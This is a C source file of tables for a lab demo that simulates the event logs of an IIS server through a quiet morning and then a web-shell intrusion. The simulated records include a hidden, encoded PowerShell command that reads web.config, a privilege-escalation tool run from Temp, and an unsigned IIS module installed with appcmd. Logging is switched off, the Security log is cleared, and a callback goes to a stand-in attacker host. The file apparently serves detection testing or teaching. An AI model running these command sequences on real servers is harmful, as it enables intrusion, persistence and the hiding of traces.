/*
 * The tables of the demo (see demo_scenario.h): a quiet morning of one web server, then a web shell
 * that becomes an IIS module.
 *
 * What it tells: 07:55 to 10:30 services, logons, a deployment by msdeploy, page compilation, a
 * worker that idles out, a crash; from 10:41 a page written by the worker process, commands under
 * it, a privilege exploit, an IIS module installed with appcmd and loaded unsigned, HTTP logging
 * switched off, the Security log cleared. What it ignores: request logs and configuration files;
 * this tree has event logs only.
 */
#include "lab/demo/demo_scenario.h"

#define SYSTEM32 "C:\\Windows\\System32\\"
#define INETSRV "C:\\Windows\\System32\\inetsrv\\"
#define FRAMEWORK "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\"
#define ASPNET_TEMP FRAMEWORK "Temporary ASP.NET Files\\root\\5a6f2c10\\b1d3e4f5\\"
#define POOL_COMMAND(pool, pipe)                                                                   \
    "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"" pool                                         \
    "\" -v \"v4.0\" -l \"webengine4.dll\" -a \\\\.\\pipe\\iisipm" pipe                             \
    " -h \"C:\\inetpub\\temp\\apppools\\" pool "\\" pool ".config\" -w \"\" -m 0 -t 20 -ta 0"
#define MICROSOFT "Microsoft Windows"

/* whoami /all; Get-Content C:\inetpub\wwwroot\web.config - as UTF-16LE in base64 */
#define ENCODED                                                                                    \
    "dwBoAG8AYQBtAGkAIAAvAGEAbABsADsAIABHAGUAdAAtAEMAbwBuAHQAZQBuAHQAIABDADoAXABpAG4AZQB0AHAAdQBi" \
    "AFwAdwB3AHcAcgBvAG8AdABcAHcAZQBiAC4AYwBvAG4AZgBpAGcA"

const struct iw_lab_demo_session iw_lab_demo_sessions[] = {
    /* key      sid                                  user              domain          logon id type
       logon process package      workstation ip           port    privileged */
    {"system", "S-1-5-18", "SYSTEM", "NT AUTHORITY", "0x3e7", "5", "Advapi  ", "Negotiate", "-",
     "-", "-", true},
    {"network", "S-1-5-20", "NETWORK SERVICE", "NT AUTHORITY", "0x3e4", "5", "Advapi  ",
     "Negotiate", "-", "-", "-", false},
    {"pool", "S-1-5-82-3006700770-424185619-1745488364-794895919-4004696415", "DefaultAppPool",
     "IIS APPPOOL", "0x8a31c", "5", "Advapi  ", "Negotiate", "-", "-", "-", false},
    {"deploy", "S-1-5-21-1546776337-1000607897-2331515952-1605", "svc_deploy", "LAB", "0x41d07a",
     "3", "NtLmSsp ", "NTLM", "BUILD02", "10.20.1.40", "50412", true},
    {"admin", "S-1-5-21-1546776337-1000607897-2331515952-1103", "j.doe", "LAB", "0x5520b3", "10",
     "User32 ", "Negotiate", "WEB01", "10.20.1.7", "0", true},
    {"monitor", "S-1-5-21-1546776337-1000607897-2331515952-1640", "svc_monitor", "LAB", "0x33b6e1",
     "3", "Kerberos", "Kerberos", "-", "10.20.1.90", "61022", false},
};
const size_t iw_lab_demo_n_sessions = sizeof iw_lab_demo_sessions / sizeof iw_lab_demo_sessions[0];

const struct iw_lab_demo_process iw_lab_demo_processes[] = {
    /* key, pid, started, session, parent, integrity, image, original name, directory, command line
     */
    {"services", "712", "05:58:02.417", "system", NULL, "System", SYSTEM32 "services.exe",
     "services.exe", SYSTEM32, SYSTEM32 "services.exe"},
    {"iissvcs", "2044", "05:58:09.733", "system", "services", "System", SYSTEM32 "svchost.exe",
     "svchost.exe", SYSTEM32, "C:\\Windows\\system32\\svchost.exe -k iissvcs"},
    {"wmsvc", "2388", "05:58:11.052", "network", "services", "System", INETSRV "wmsvc.exe",
     "WMSvc.exe", SYSTEM32, "C:\\Windows\\system32\\inetsrv\\wmsvc.exe"},
    {"lsass", "728", "05:58:02.602", "system", NULL, "System", SYSTEM32 "lsass.exe", "lsass.exe",
     SYSTEM32, "C:\\Windows\\system32\\lsass.exe"},
    {"worker1", "4312", "08:01:14.208", "pool", "iissvcs", "High", INETSRV "w3wp.exe", "w3wp.exe",
     "c:\\windows\\system32\\inetsrv\\",
     POOL_COMMAND("DefaultAppPool", "1b7c0d52-6f4e-4bb1-a1c7-2c1d3a9e7f10")},
    {"updates", "5120", "08:30:00.512", "system", "services", "System", SYSTEM32 "svchost.exe",
     "svchost.exe", SYSTEM32, "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s wuauserv"},
    {"explorer", "6204", "08:47:20.118", "admin", NULL, "Medium", "C:\\Windows\\explorer.exe",
     "EXPLORER.EXE", SYSTEM32, "C:\\Windows\\Explorer.EXE"},
    {"admincmd", "6388", "08:52:40.934", "admin", "explorer", "High", SYSTEM32 "cmd.exe", "Cmd.Exe",
     "C:\\Users\\j.doe\\", "\"C:\\Windows\\system32\\cmd.exe\""},
    {"listmods", "6412", "08:53:05.271", "admin", "admincmd", "High", INETSRV "appcmd.exe",
     "appcmd.exe", "C:\\Windows\\System32\\inetsrv\\", "appcmd.exe  list modules"},
    {"msdeploy", "6720", "09:10:03.845", "deploy", "wmsvc", "High",
     "C:\\Program Files\\IIS\\Microsoft Web Deploy V3\\msdeploy.exe", "msdeploy.exe", INETSRV,
     "\"C:\\Program Files\\IIS\\Microsoft Web Deploy V3\\msdeploy.exe\" -verb:sync "
     "-source:package='C:\\Deploy\\shop_2026.1.package.zip' -dest:iisApp='Default Web Site/shop'"},
    {"csc1", "6904", "09:10:31.402", "pool", "worker1", "High", FRAMEWORK "csc.exe", "csc.exe",
     INETSRV, "\"" FRAMEWORK "csc.exe\" /noconfig /fullpaths @\"" ASPNET_TEMP "k2x4q0aa.cmdline\""},
    {"cvtres1", "6932", "09:10:31.877", "pool", "csc1", "High", FRAMEWORK "cvtres.exe",
     "CVTRES.EXE", INETSRV,
     FRAMEWORK "cvtres.exe /NOLOGO /READONLY /MACHINE:IX86 \"/OUT:C:\\Windows\\TEMP\\RES41.tmp\" "
               "\"" ASPNET_TEMP "CSC40.TMP\""},
    {"werfault", "7156", "09:48:12.660", "pool", "worker1", "High", SYSTEM32 "WerFault.exe",
     "WerFault.exe", INETSRV, "C:\\Windows\\system32\\WerFault.exe -u -p 4312 -s 2204"},
    {"worker2", "7240", "09:48:15.021", "pool", "iissvcs", "High", INETSRV "w3wp.exe", "w3wp.exe",
     "c:\\windows\\system32\\inetsrv\\",
     POOL_COMMAND("DefaultAppPool", "93ad5c40-0b1a-4f3e-8c77-51f0a2d6e811")},
    {"csc2", "7608", "10:42:07.318", "pool", "worker2", "High", FRAMEWORK "csc.exe", "csc.exe",
     INETSRV, "\"" FRAMEWORK "csc.exe\" /noconfig /fullpaths @\"" ASPNET_TEMP "q7h1zz3d.cmdline\""},
    {"cmd1", "7664", "10:42:31.105", "pool", "worker2", "High", SYSTEM32 "cmd.exe", "Cmd.Exe",
     "c:\\windows\\system32\\inetsrv\\", "\"cmd.exe\" /c whoami"},
    {"whoami1", "7688", "10:42:31.171", "pool", "cmd1", "High", SYSTEM32 "whoami.exe", "whoami.exe",
     "c:\\windows\\system32\\inetsrv\\", "whoami"},
    {"powershell1", "7752", "10:44:02.560", "pool", "worker2", "High",
     SYSTEM32 "WindowsPowerShell\\v1.0\\powershell.exe", "PowerShell.EXE",
     "c:\\windows\\system32\\inetsrv\\", "powershell.exe -nop -noni -w hidden -enc " ENCODED},
    {"whoami2", "7780", "10:44:03.412", "pool", "powershell1", "High", SYSTEM32 "whoami.exe",
     "whoami.exe", "c:\\windows\\system32\\inetsrv\\",
     "\"C:\\Windows\\system32\\whoami.exe\" /all"},
    {"potato", "7936", "10:51:18.044", "pool", "worker2", "High", "C:\\Windows\\Temp\\gp.exe", "-",
     "c:\\windows\\system32\\inetsrv\\",
     "C:\\Windows\\Temp\\gp.exe -cmd \"cmd /c C:\\Windows\\Temp\\i.cmd\""},
    {"cmd2", "7972", "10:51:19.310", "system", "potato", "System", SYSTEM32 "cmd.exe", "Cmd.Exe",
     SYSTEM32, "cmd /c C:\\Windows\\Temp\\i.cmd"},
    {"appcmd1", "8016", "10:51:19.642", "system", "cmd2", "System", INETSRV "appcmd.exe",
     "appcmd.exe", SYSTEM32,
     "C:\\Windows\\System32\\inetsrv\\appcmd.exe install module /name:HttpCacheModule64 "
     "/image:C:\\Windows\\System32\\inetsrv\\cachport.dll /add:true"},
    {"worker3", "8120", "10:51:24.207", "pool", "iissvcs", "High", INETSRV "w3wp.exe", "w3wp.exe",
     "c:\\windows\\system32\\inetsrv\\",
     POOL_COMMAND("DefaultAppPool", "c4e81b6f-7d0f-4a0c-b0a5-0e6f3b2d9a34")},
    {"appcmd2", "8204", "10:53:40.915", "system", "cmd2", "System", INETSRV "appcmd.exe",
     "appcmd.exe", SYSTEM32,
     "C:\\Windows\\System32\\inetsrv\\appcmd.exe set config /section:httpLogging /dontLog:true "
     "/commit:apphost"},
    {"wevtutil", "8296", "10:55:02.730", "system", "cmd2", "System", SYSTEM32 "wevtutil.exe",
     "wevtutil.exe", SYSTEM32, "wevtutil.exe cl Security"},
};
const size_t iw_lab_demo_n_processes =
    sizeof iw_lab_demo_processes / sizeof iw_lab_demo_processes[0];

const struct iw_lab_demo_step iw_lab_demo_steps[] = {
    /* A quiet morning. */
    {"07:55:10.302", IW_LAB_DEMO_LOGON, "monitor", NULL, NULL, NULL},
    {"07:55:12.881", IW_LAB_DEMO_LOGOFF, "monitor", NULL, NULL, NULL},
    {"08:01:14.190", IW_LAB_DEMO_LOGON, "pool", NULL, NULL, NULL},
    {"08:01:14.208", IW_LAB_DEMO_START, "worker1", NULL, NULL, NULL},
    {"08:01:14.377", IW_LAB_DEMO_LOAD, "worker1", INETSRV "iiscore.dll", MICROSOFT, NULL},
    {"08:01:14.402", IW_LAB_DEMO_LOAD, "worker1", INETSRV "cachuri.dll", MICROSOFT, NULL},
    {"08:01:14.417", IW_LAB_DEMO_LOAD, "worker1", INETSRV "modrqflt.dll", MICROSOFT, NULL},
    {"08:01:14.431", IW_LAB_DEMO_LOAD, "worker1", INETSRV "loghttp.dll", MICROSOFT, NULL},
    {"08:01:14.520", IW_LAB_DEMO_LOAD, "worker1", FRAMEWORK "webengine4.dll",
     "Microsoft Corporation", NULL},
    {"08:30:00.512", IW_LAB_DEMO_START, "updates", NULL, NULL, NULL},
    {"08:30:00.590", IW_LAB_DEMO_SERVICE, "services", "Windows Update", "running", NULL},
    {"08:30:05.233", IW_LAB_DEMO_RESOLVE, "updates", "updates.lab.example", "10.20.0.15;", NULL},
    {"08:30:05.301", IW_LAB_DEMO_CONNECT, "updates", "10.20.0.15", "updates.lab.example", "443"},
    {"08:40:00.731", IW_LAB_DEMO_SERVICE, "services", "Windows Update", "stopped", NULL},
    {"08:40:00.745", IW_LAB_DEMO_END, "updates", NULL, NULL, NULL},
    {"08:47:19.640", IW_LAB_DEMO_LOGON, "admin", NULL, NULL, NULL},
    {"08:47:20.118", IW_LAB_DEMO_START, "explorer", NULL, NULL, NULL},
    {"08:52:40.934", IW_LAB_DEMO_START, "admincmd", NULL, NULL, NULL},
    {"08:53:05.271", IW_LAB_DEMO_START, "listmods", NULL, NULL, NULL},
    {"08:53:05.410", IW_LAB_DEMO_END, "listmods", NULL, NULL, NULL},
    {"08:54:11.003", IW_LAB_DEMO_END, "admincmd", NULL, NULL, NULL},
    {"08:58:30.120", IW_LAB_DEMO_LOGOFF, "admin", NULL, NULL, NULL},

    /* A deployment, and what follows from it. */
    {"09:10:03.790", IW_LAB_DEMO_LOGON, "deploy", NULL, NULL, NULL},
    {"09:10:03.845", IW_LAB_DEMO_START, "msdeploy", NULL, NULL, NULL},
    {"09:10:06.114", IW_LAB_DEMO_FILE, "msdeploy", "C:\\inetpub\\wwwroot\\shop\\Default.aspx", NULL,
     NULL},
    {"09:10:06.120", IW_LAB_DEMO_FILE, "msdeploy", "C:\\inetpub\\wwwroot\\shop\\Cart.aspx", NULL,
     NULL},
    {"09:10:06.131", IW_LAB_DEMO_FILE, "msdeploy", "C:\\inetpub\\wwwroot\\shop\\Größentabelle.aspx",
     NULL, NULL},
    {"09:10:06.149", IW_LAB_DEMO_FILE, "msdeploy", "C:\\inetpub\\wwwroot\\shop\\bin\\Shop.Web.dll",
     NULL, NULL},
    {"09:10:06.166", IW_LAB_DEMO_FILE, "msdeploy", "C:\\inetpub\\wwwroot\\shop\\web.config", NULL,
     NULL},
    {"09:10:08.520", IW_LAB_DEMO_END, "msdeploy", NULL, NULL, NULL},
    {"09:10:08.533", IW_LAB_DEMO_LOGOFF, "deploy", NULL, NULL, NULL},
    {"09:10:31.402", IW_LAB_DEMO_START, "csc1", NULL, NULL, NULL},
    {"09:10:31.877", IW_LAB_DEMO_START, "cvtres1", NULL, NULL, NULL},
    {"09:10:31.990", IW_LAB_DEMO_END, "cvtres1", NULL, NULL, NULL},
    {"09:10:32.204", IW_LAB_DEMO_FILE, "csc1", ASPNET_TEMP "App_Web_k2x4q0aa.dll", NULL, NULL},
    {"09:10:32.260", IW_LAB_DEMO_END, "csc1", NULL, NULL, NULL},
    {"09:15:44.019", IW_LAB_DEMO_INSTALLED, "services", "Example Backup Agent", "7.2.0",
     "Example Söhne GmbH"},
    {"09:22:17.705", IW_LAB_DEMO_REGISTRY, "services",
     "HKLM\\System\\CurrentControlSet\\Services\\ExampleBackup\\Start", "DWORD (0x00000002)", NULL},
    {"09:48:12.488", IW_LAB_DEMO_CRASH, "worker1", "clr.dll", "c0000005", NULL},
    {"09:48:12.660", IW_LAB_DEMO_START, "werfault", NULL, NULL, NULL},
    {"09:48:12.812", IW_LAB_DEMO_OPEN_PROCESS, "werfault", "worker1", "0x1fffff", NULL},
    {"09:48:14.377", IW_LAB_DEMO_END, "werfault", NULL, NULL, NULL},
    {"09:48:14.401", IW_LAB_DEMO_END, "worker1", NULL, NULL, NULL},
    {"09:48:15.021", IW_LAB_DEMO_START, "worker2", NULL, NULL, NULL},
    {"09:48:15.198", IW_LAB_DEMO_LOAD, "worker2", INETSRV "iiscore.dll", MICROSOFT, NULL},
    {"09:48:15.240", IW_LAB_DEMO_LOAD, "worker2", INETSRV "loghttp.dll", MICROSOFT, NULL},
    {"09:48:15.331", IW_LAB_DEMO_LOAD, "worker2", FRAMEWORK "webengine4.dll",
     "Microsoft Corporation", NULL},
    {"10:05:10.410", IW_LAB_DEMO_FILE, "worker2",
     "C:\\inetpub\\wwwroot\\shop\\uploads\\invoice_20260105.pdf", NULL, NULL},

    /* The attack: a page appears, and is used. */
    {"10:41:52.660", IW_LAB_DEMO_FILE, "worker2",
     "C:\\inetpub\\wwwroot\\shop\\uploads\\thumbs.aspx", NULL, NULL},
    {"10:41:52.664", IW_LAB_DEMO_ACCESS_FILE, "worker2",
     "C:\\inetpub\\wwwroot\\shop\\uploads\\thumbs.aspx", "%%4417\r\n\t\t\t\t", "0x2"},
    {"10:42:07.318", IW_LAB_DEMO_START, "csc2", NULL, NULL, NULL},
    {"10:42:08.071", IW_LAB_DEMO_FILE, "csc2", ASPNET_TEMP "App_Web_q7h1zz3d.dll", NULL, NULL},
    {"10:42:08.140", IW_LAB_DEMO_END, "csc2", NULL, NULL, NULL},
    {"10:42:31.105", IW_LAB_DEMO_START, "cmd1", NULL, NULL, NULL},
    {"10:42:31.171", IW_LAB_DEMO_START, "whoami1", NULL, NULL, NULL},
    {"10:42:31.240", IW_LAB_DEMO_END, "whoami1", NULL, NULL, NULL},
    {"10:42:31.255", IW_LAB_DEMO_END, "cmd1", NULL, NULL, NULL},
    {"10:44:02.560", IW_LAB_DEMO_START, "powershell1", NULL, NULL, NULL},
    {"10:44:03.118", IW_LAB_DEMO_SCRIPT, "powershell1",
     "whoami /all; Get-Content C:\\inetpub\\wwwroot\\web.config", "", NULL},
    {"10:44:03.412", IW_LAB_DEMO_START, "whoami2", NULL, NULL, NULL},
    {"10:44:03.498", IW_LAB_DEMO_END, "whoami2", NULL, NULL, NULL},
    {"10:44:04.002", IW_LAB_DEMO_END, "powershell1", NULL, NULL, NULL},
    {"10:50:33.927", IW_LAB_DEMO_FILE, "worker2", "C:\\Windows\\Temp\\gp.exe", NULL, NULL},
    {"10:50:41.306", IW_LAB_DEMO_FILE, "worker2", "C:\\Windows\\Temp\\cachport.dll", NULL, NULL},
    {"10:50:47.551", IW_LAB_DEMO_FILE, "worker2", "C:\\Windows\\Temp\\i.cmd", NULL, NULL},

    /* It becomes administrator, and stays as a module. */
    {"10:51:18.044", IW_LAB_DEMO_START, "potato", NULL, NULL, NULL},
    {"10:51:19.310", IW_LAB_DEMO_START, "cmd2", NULL, NULL, NULL},
    {"10:51:19.588", IW_LAB_DEMO_FILE, "cmd2", INETSRV "cachport.dll", NULL, NULL},
    {"10:51:19.642", IW_LAB_DEMO_START, "appcmd1", NULL, NULL, NULL},
    {"10:51:19.874", IW_LAB_DEMO_CONFIG, "appcmd1",
     "/system.webServer/globalModules/add[@name=\"HttpCacheModule64\"]", "", "HttpCacheModule64"},
    {"10:51:19.875", IW_LAB_DEMO_CONFIG, "appcmd1",
     "/system.webServer/globalModules/add[@name=\"HttpCacheModule64\"]/@image", "",
     "C:\\Windows\\System32\\inetsrv\\cachport.dll"},
    {"10:51:19.877", IW_LAB_DEMO_CONFIG, "appcmd1",
     "/system.webServer/modules/add[@name=\"HttpCacheModule64\"]", "", "HttpCacheModule64"},
    {"10:51:19.902", IW_LAB_DEMO_COMMIT, "appcmd1", NULL, NULL, NULL},
    {"10:51:19.905", IW_LAB_DEMO_FILE, "appcmd1", INETSRV "config\\applicationHost.config", NULL,
     NULL},
    {"10:51:19.931", IW_LAB_DEMO_END, "appcmd1", NULL, NULL, NULL},
    {"10:51:24.110", IW_LAB_DEMO_END, "worker2", NULL, NULL, NULL},
    {"10:51:24.207", IW_LAB_DEMO_START, "worker3", NULL, NULL, NULL},
    {"10:51:24.390", IW_LAB_DEMO_LOAD, "worker3", INETSRV "iiscore.dll", MICROSOFT, NULL},
    {"10:51:24.428", IW_LAB_DEMO_LOAD, "worker3", INETSRV "loghttp.dll", MICROSOFT, NULL},
    {"10:51:24.466", IW_LAB_DEMO_LOAD, "worker3", INETSRV "cachport.dll", NULL, NULL},
    {"10:52:08.731", IW_LAB_DEMO_RESOLVE, "worker3", "cdn-sync.attacker.example", "203.0.113.57;",
     NULL},
    {"10:52:08.803", IW_LAB_DEMO_CONNECT, "worker3", "203.0.113.57", "cdn-sync.attacker.example",
     "443"},

    /* Covering the traces. */
    {"10:53:40.915", IW_LAB_DEMO_START, "appcmd2", NULL, NULL, NULL},
    {"10:53:41.102", IW_LAB_DEMO_CONFIG, "appcmd2", "/system.webServer/httpLogging/@dontLog",
     "false", "true"},
    {"10:53:41.128", IW_LAB_DEMO_COMMIT, "appcmd2", NULL, NULL, NULL},
    {"10:53:41.150", IW_LAB_DEMO_END, "appcmd2", NULL, NULL, NULL},
    {"10:55:02.730", IW_LAB_DEMO_START, "wevtutil", NULL, NULL, NULL},
    {"10:55:02.944", IW_LAB_DEMO_LOG_CLEARED, "system", NULL, NULL, NULL},
    {"10:55:03.012", IW_LAB_DEMO_END, "wevtutil", NULL, NULL, NULL},
    {"10:55:04.377", IW_LAB_DEMO_END, "cmd2", NULL, NULL, NULL},
    {"10:55:04.401", IW_LAB_DEMO_END, "potato", NULL, NULL, NULL},
    {"11:12:20.019", IW_LAB_DEMO_RECYCLE, "worker3", "DefaultAppPool", NULL, NULL},
    {"11:12:20.140", IW_LAB_DEMO_END, "worker3", NULL, NULL, NULL},
    {"11:15:10.655", IW_LAB_DEMO_LOGON, "monitor", NULL, NULL, NULL},
    {"11:15:13.020", IW_LAB_DEMO_LOGOFF, "monitor", NULL, NULL, NULL},
};
const size_t iw_lab_demo_n_steps = sizeof iw_lab_demo_steps / sizeof iw_lab_demo_steps[0];
